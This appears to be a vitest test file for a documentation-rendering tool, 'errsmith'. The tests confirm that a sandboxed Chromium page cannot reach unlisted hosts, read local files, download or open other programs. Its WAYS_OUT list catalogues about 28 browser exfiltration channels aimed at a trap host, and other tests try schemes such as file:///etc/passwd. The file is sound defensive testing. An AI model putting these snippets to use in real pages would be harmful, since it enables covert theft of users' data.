import { chmodSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { findChromium } from "../../../src/fetch/render/find-chromium.ts";
import { html, ROWS, site } from "../server.ts";
import { NEEDS_CHROMIUM, WITHOUT_CHROMIUM } from "./chromium.ts";
import { render, scripted, shell, showing } from "./rendering.ts";
import { trap } from "./trap.ts";

const CODE = "<p>InvalidParameter.Currency: The currency is not supported.</p>";

/** What a page can do to send something to HOST. Each is tried for three seconds before the page shows its code. */
const WAYS_OUT: readonly (readonly [name: string, script: string])[] = [
  ["fetch", `fetch("http://HOST/a", { mode: "no-cors" })`],
  ["a POST request", `fetch("http://HOST/a", { mode: "no-cors", method: "POST", body: "a" })`],
  ["a request that stays", `fetch("http://HOST/a", { mode: "no-cors", keepalive: true })`],
  ["XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", "http://HOST/a"); x.send()`],
  ["sendBeacon", `navigator.sendBeacon("http://HOST/a", "a")`],
  ["an image", `new Image().src = "http://HOST/a.png"`],
  [
    "a style sheet with an import and a font",
    `document.head.insertAdjacentHTML("beforeend", "<style>@import 'http://HOST/a.css'; @font-face { font-family: a; src: url(http://HOST/a.woff) } * { font-family: a; background: url(http://HOST/a.png) }</style>")`,
  ],
  ["a script", `document.head.append(Object.assign(document.createElement("script"), { src: "http://HOST/a.js" }))`],
  ["a frame", `document.body.insertAdjacentHTML("beforeend", "<iframe src='http://HOST/a'></iframe>")`],
  [
    "a frame with a document of its own",
    `document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<img src=http://HOST/a><script>fetch(\\'http://HOST/b\\')</' + 'script>"></iframe>')`,
  ],
  [
    "an object",
    `document.body.insertAdjacentHTML("beforeend", "<object data='http://HOST/a'></object><embed src='http://HOST/b'>")`,
  ],
  ["a film", `document.body.insertAdjacentHTML("beforeend", "<video autoplay src='http://HOST/a'></video>")`],
  [
    "hints",
    `document.head.insertAdjacentHTML("beforeend", ["dns-prefetch", "preconnect", "prefetch", "preload' as='script", "modulepreload", "prerender"].map((rel) => "<link rel='" + rel + "' href='http://HOST/a'>").join(""))`,
  ],
  [
    "speculation rules",
    `document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: ["http://HOST/a"] }], prefetch: [{ urls: ["http://HOST/b"], eagerness: "immediate" }] }) }))`,
  ],
  ["EventSource", `new EventSource("http://HOST/a")`],
  ["WebSocket", `new WebSocket("ws://HOST/a")`],
  ["WebTransport", `new WebTransport("https://HOST/a").ready.catch(() => undefined)`],
  [
    "WebRTC",
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }, { urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }] });
    peer.createDataChannel("a"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  ],
  [
    "a worker",
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/a', { mode: 'no-cors' }); new WebSocket('ws://HOST/b'); importScripts('http://HOST/c.js')"])))`,
  ],
  [
    "a shared worker",
    `new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://HOST/a', { mode: 'no-cors' }); new WebSocket('ws://HOST/b')"])))`,
  ],
  ["a service worker", `navigator.serviceWorker.register("/worker.js")`],
  [
    "a ping",
    `const a = Object.assign(document.createElement("a"), { href: "#x", ping: "http://HOST/a" }); document.body.append(a); a.click()`,
  ],
  [
    "a form in another window",
    `document.body.insertAdjacentHTML("beforeend", "<form target='_blank' action='http://HOST/a'></form>"); document.forms[0].submit()`,
  ],
  ["another window", `open("http://HOST/a"); open("about:blank")?.document.write("<img src=http://HOST/b>")`],
  [
    "a report",
    `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv='Content-Security-Policy' content='img-src none; report-uri http://HOST/a'>"); new Image().src = "/x.png"`,
  ],
  ["a redirect of a request", `fetch("/to-trap")`],
  [
    "a manifest and an icon",
    `document.head.insertAdjacentHTML("beforeend", "<link rel='manifest' href='http://HOST/a'><link rel='icon' href='http://HOST/b'>")`,
  ],
  [
    "a payment method",
    `try { new PaymentRequest([{ supportedMethods: "https://HOST/a" }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => undefined) } catch {}`,
  ],
];

describe.skipIf(WITHOUT_CHROMIUM)(
  `a page in a browser reaches only what errsmith requests for it${NEEDS_CHROMIUM}`,
  () => {
    test("no way out leads to an address that is not allowed", async () => {
      const { host, caught } = await trap();
      const scripts = WAYS_OUT.map(
        ([, script]) => `try { (() => { ${script.replaceAll("HOST", host)} })() } catch (e) { console.log(e) }`,
      );
      const docs = await scripted(`${scripts.join(";\n")}; setTimeout(() => { ${showing(CODE)} }, 3000)`, {
        "/to-trap": (_request, response) => response.writeHead(302, { location: `http://${host}/redirected` }).end(),
        "/worker.js": (_request, response) =>
          response.setHeader("content-type", "text/javascript").end(`fetch("http://${host}/service-worker")`),
      });
      const { text } = await render(docs, "/errors");
      expect(text).toContain("InvalidParameter.Currency");
      expect(caught).toEqual([]);
      // The service worker, hints, images and frames are not requested at all, from allowed hosts neither.
      expect(docs.requests.map(({ url }) => url).sort()).toEqual(["/errors", "/to-trap"]);
    });

    test("an address that is allowed for the hosts of source.json is not so for others, nor through a redirect", async () => {
      const other = await site({ "/data": "a-private-text", "/errors": html(ROWS) });
      const script = ["/to-other", `${other.origin}/data`].map(
        (url) => `fetch("${url}").then((r) => r.text()).then((t) => document.body.append(t));`,
      );
      const docs = await scripted(`${script.join("")} ${showing(CODE)}`, {
        "/to-other": (_request, response) => response.writeHead(302, { location: `${other.origin}/data` }).end(),
      });
      const { text, troubles } = await render(docs, "/errors");
      expect(text).not.toContain("a-private-text");
      expect(troubles).toEqual(["127.0.0.1 is a private or special address; allow it with --allow-address 127.0.0.1"]);
      expect(other.requests).toEqual([]);
    });

    test("the browser opens no connection and asks for no name, whatever its page does", async () => {
      const folder = mkdtempSync(join(tmpdir(), "errsmith-net-log-"));
      const log = join(folder, "net.json");
      const program = join(folder, "chromium");
      writeFileSync(program, `#!/bin/sh\nexec ${findChromium(process.env)} --log-net-log=${log} "$@"\n`);
      chmodSync(program, 0o755);
      const scripts = WAYS_OUT.map(
        ([, script]) => `try { (() => { ${script.replaceAll("HOST", "docs.shop.example")} })() } catch {}`,
      );
      const docs = await scripted(`${scripts.join(";\n")}; setTimeout(() => { ${showing(CODE)} }, 3000)`);
      const { text } = await render(docs, "/errors", { env: { ERRSMITH_CHROMIUM: program } });
      expect(text).toContain("InvalidParameter.Currency");
      const { constants, events } = readNetLog(log);
      const names = new Map(Object.entries(constants.logEventTypes).map(([name, id]) => [id, name]));
      const kinds = new Set(events.map(({ type }) => names.get(type) ?? ""));
      expect(kinds).toContain("URL_REQUEST_START_JOB");
      expect(Object.keys(constants.logEventTypes)).toEqual(expect.arrayContaining([...NETWORK_EVENTS]));
      expect(NETWORK_EVENTS.filter((kind) => kinds.has(kind))).toEqual([]);
    });

    test.each([
      ["a private address", `location.href = "http://127.0.0.2/"`, "address: 127.0.0.2 is a private"],
      [
        "a host that source.json does not list",
        `location.href = "http://127.0.0.1:1/"`,
        "not-allowed: 127.0.0.1:1 is not one of the hosts",
      ],
      ["an address with a password", `location.href = "http://a:secret@" + location.host`, "not-allowed: "],
      [
        "itself without end",
        `location.href = location.pathname === "/errors" ? "/other" : "/errors"`,
        "redirect: more than 5 documents",
      ],
      ["a page that is missing", `location.href = "/missing"`, "http-404: HTTP 404"],
    ])("a page that leads to %s is not used", async (_, script, reason) => {
      const docs = await site({ "/errors": shell(script), "/other": shell(script) });
      const { text } = await render(docs, "/errors", { hosts: [docs.host, "127.0.0.2"] });
      expect(text).toContain(reason);
      expect(text).not.toContain("secret");
    });

    test.each([
      ["dialogs", `alert(1); confirm(2); prompt(3); onbeforeunload = () => "x"; print()`],
      [
        "downloads",
        `const a = Object.assign(document.createElement("a"), { href: "data:application/octet-stream,x", download: "x.sh" }); document.body.append(a); a.click(); location.href = "/file.zip"`,
      ],
      [
        "permissions",
        `navigator.geolocation.getCurrentPosition(() => 1); Notification.requestPermission(); navigator.mediaDevices?.getUserMedia({ audio: true }).catch(() => 1); navigator.clipboard?.readText().catch(() => 1); navigator.requestMIDIAccess?.().catch(() => 1)`,
      ],
      [
        "other schemes",
        `for (const url of ["file:///etc/passwd", "chrome://version", "ftp://127.0.0.2/", "mailto:a@b.example", "x-errsmith:run", "view-source:file:///etc/passwd"]) { open(url); try { location.href = url } catch {} document.body.insertAdjacentHTML("beforeend", "<iframe src='" + url + "'></iframe>") }`,
      ],
    ])("%s have no effect", async (_, script) => {
      const folder = mkdtempSync(join(tmpdir(), "errsmith-home-"));
      const opened = join(folder, "opened");
      writeFileSync(join(folder, "xdg-open"), `#!/bin/sh\necho "$@" >> ${opened}\n`);
      chmodSync(join(folder, "xdg-open"), 0o755);
      const docs = await scripted(`${showing(CODE)} setTimeout(() => { ${script} }, 300)`, {
        "/file.zip": (_request, response) =>
          response.writeHead(200, { "content-disposition": "attachment; filename=x.zip" }).end("PK"),
      });
      const { text } = await render(docs, "/errors", {
        env: { PATH: `${folder}:${process.env["PATH"]}`, HOME: folder },
      });
      expect(text).toContain("InvalidParameter.Currency");
      expect(text).not.toContain("root:");
      expect(existsSync(opened)).toBe(false);
      expect(existsSync(join(folder, "Downloads"))).toBe(false);
    });
  },
);

/** Events of a connection that is attempted, of bytes that are sent, and of a question to a name server. */
const NETWORK_EVENTS = [
  "TCP_CONNECT",
  "TCP_CONNECT_ATTEMPT",
  "SOCKET_BYTES_SENT",
  "UDP_BYTES_SENT",
  "QUIC_SESSION",
  "DNS_TRANSACTION",
  "HOST_RESOLVER_DNS_TASK",
  "HOST_RESOLVER_SYSTEM_TASK",
];

interface NetLog {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
  readonly events: readonly { readonly type: number }[];
}

/** The log of a browser that was ended may lack its end. */
function readNetLog(path: string): NetLog {
  const text = readFileSync(path, "utf8").trimEnd();
  try {
    return JSON.parse(text) as NetLog;
  } catch {
    return JSON.parse(`${text.slice(0, text.lastIndexOf("\n")).replace(/,$/, "")}]}`) as NetLog;
  }
}
